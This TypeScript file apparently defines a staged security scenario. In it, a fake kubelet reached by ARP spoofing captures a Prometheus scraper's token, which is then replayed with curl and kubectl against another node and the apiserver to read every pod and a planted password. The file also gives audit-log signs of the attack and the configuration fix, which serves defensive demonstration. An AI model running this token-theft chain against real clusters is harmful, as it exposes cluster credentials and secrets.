import { Attacker } from '../../attacker/attacker';
import { neighbour } from '../../attacker/position';
import { KubeClient } from '../../client/kube-client';
import { addresses, ports } from '../addresses';
import { randomCanaries } from '../canaries';
import { prometheus } from '../conversations/scraper';
import { clientOn } from './client-on';
import { curl } from './curl';
import { runPodWithPassword } from './pod-with-password';
import type { Scenario } from './scenario';

const { namespace, name } = prometheus;

export const scraperToken: Scenario = {
  id: 'scraper-token',
  title: 'a fake kubelet that is handed a scraper’s token',
  story:
    'Whoever scrapes kubelets shows each of them a token, and many are told not to verify kubelets, because the certificates that kubelets make for themselves cannot be. A kubelet has the apiserver look at tokens without naming an audience, so what it is shown is worth as much at the apiserver, and at every other kubelet. An attacker that is taken for one node has the metrics of all, and every pod of the cluster.',
  needs: 'A place on the path between the scraper and one node.',
  evidence:
    'With the captured token another node’s genuine kubelet answers with its metrics, and the genuine apiserver with every pod, a planted password among them.',
  attack: ['T1528', 'T1078'],
  setting: {
    name: 'scrape_configs[].tls_config of Prometheus',
    open: 'insecure_skip_verify: true',
    fixed: 'ca_file: /var/run/secrets/kubernetes.io/serviceaccount/ca.crt',
  },
  notice:
    'In the audit log, one authentication.kubernetes.io/credential-id from two addresses (sourceIPs), and a userAgent that is not the scraper’s. The target node-1 is down in Prometheus or has no metrics that make sense.',
  sources: [
    'pkg/kubelet/server/auth.go',
    'cmd/kubelet/app/auth.go (a TokenReview without audiences)',
    'kubernetes-sigs/metrics-server, --kubelet-insecure-tls',
  ],
  async play(stage, twin) {
    const cluster = await stage.cluster({
      // Kubelets have certificates that can be verified, in both.
      kubelet: { serverTLSBootstrap: true },
      kubeletServing: 'cluster-authority',
      clientTrust: twin === 'open' ? 'nobody' : 'cluster-authority',
    });
    const { attackerHost, workstation, credentials } = cluster;
    const { signal } = stage;
    const password = await runPodWithPassword(stage, cluster, 'node-2');
    const genuine = { address: addresses.node1, port: ports.kubelet };
    const position = neighbour(workstation, attackerHost, genuine.address);
    const { forged, tampered } = randomCanaries();
    await using attack = await new Attacker({ host: attackerHost }).attack({
      technique: 'self-signed',
      targets: [genuine],
      position,
      present: null,
      mode: 'impersonate',
      forged,
      tampered,
    });
    await stage.did('attacker', `arpspoof -t ${workstation.name} ${genuine.address}`, position.describe());

    await using scraper = new KubeClient({
      from: workstation,
      server: { host: genuine.address, port: genuine.port },
      trust: cluster.clientTrust(genuine.address),
      token: await credentials.token(prometheus),
      userAgent: 'Prometheus/3.4.0',
    });
    const scraped = await scraper.request('GET', '/metrics/resource', { signal });
    await attack.withdraw();
    const token = attack.loot.credentials[0]?.value;
    const serve = 'answers the scrape of https://node-1:10250/metrics/resource';
    if (token === undefined) await stage.refused('attacker', serve, scraped.refusal?.text ?? scraped.words);
    else await stage.did('attacker', serve, `Authorization: Bearer ${token.slice(0, 24)}…`);

    const stolen = token === undefined ? {} : { token };
    const shown = token === undefined ? '' : ' -H "Authorization: Bearer …"';
    const other = `https://${addresses.node2}:${ports.kubelet}/metrics/resource`;
    const metrics = await curl(attackerHost, other, { ...stolen, signal });
    const used = metrics.body.split('\n').find((line) => /^pod_memory_working_set_bytes.*"db"/.test(line));
    const measure = `curl -k${shown} https://node-2:10250/metrics/resource`;
    if (used !== undefined)
      await stage.gained('attacker', measure, used, 'the metrics of a kubelet it never impersonated');
    else await stage.refused('attacker', measure, metrics.words);

    await using thief = clientOn(attackerHost, cluster, stolen);
    const pods = await thief.request('GET', '/api/v1/pods', { signal });
    const list = `kubectl${token === undefined ? '' : ' --token=…'} get pods -A -o yaml`;
    if (pods.body.includes(password)) {
      const { items } = pods.json() as { items: readonly unknown[] };
      const saw = `${items.length} pods; default/db has PASSWORD=${password}`;
      await stage.gained(
        'attacker',
        list,
        saw,
        `from the apiserver, as ${namespace}/${name}, every pod of the cluster`,
      );
    } else await stage.refused('attacker', list, pods.words);
  },
};
